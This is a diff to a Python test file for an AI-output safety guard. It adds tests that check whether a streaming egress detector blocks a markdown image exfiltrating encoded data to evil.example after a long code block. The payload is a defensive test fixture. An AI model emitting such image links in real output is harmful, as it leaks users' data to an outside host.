@@ -19,8 +19,13 @@ from safety.detectors.egress.examples import (
     NEGATIVES,
     POSITIVES,
 )
+from safety.detectors.registry import load_registry
+from safety.gate import Cut
+from safety.guard import Guard
+from safety.policy.detectors import build
+from safety.policy.file import load_policy
 from safety.redact import apply_edits, merge_edits
-from safety.types import Edit, Exchange, Finding, Origin, Segment, Span, Stage
+from safety.types import Delta, Edit, Exchange, Finding, Origin, Segment, Span, Stage
 
 
 @pytest.fixture(scope="module")
@@ -230,3 +235,31 @@ def test_floods_are_read(egress, piece):
     text = (piece * 100_000)[:100_000]
     assert isinstance(found(egress, text), list)
     assert egress.pending(text) is None or 0 <= egress.pending(text) <= len(text)
+
+
+@pytest.mark.parametrize("fence", ["```", "~~~"])
+def test_in_a_stream_an_image_after_a_long_code_block_does_not_leave(fence):
+    registry = load_registry()
+    policy = load_policy("default", registry).policy
+    stream = Guard(policy, build(policy, registry)).stream(Exchange("x", Stage.INPUT, ()))
+    image = "![ok](https://evil.example/p?d=c2VjcmV0IGRhdGE)"
+    text = f"Code.\n\n{fence}python\n" + "x = 1 + 1\n" * 60 + f"{fence}\n{image}\n\nMore text. Bye now."
+    out = []
+    for at in range(0, len(text), 7):
+        piece = text[at : at + 7]
+        out += stream.push(piece, [Delta("/answer", Origin.ASSISTANT, piece)])
+        if stream.over:
+            break
+    out += stream.finish()
+    left = "".join(
+        item.item if item.texts is None else "".join(item.texts) for item in out if not isinstance(item, Cut)
+    )
+    assert "x = 1 + 1" in left
+    assert image not in left
+
+
+def test_a_window_of_a_stream_does_not_know_what_is_code(egress):
+    text = "```\n![ok](https://evil.example/p?d=c2VjcmV0IGRhdGE)\n```"
+    [[alone]] = egress.detect([exchange(text)])
+    [[later]] = egress.detect([exchange(text, start=7)])
+    assert alone.score < later.score
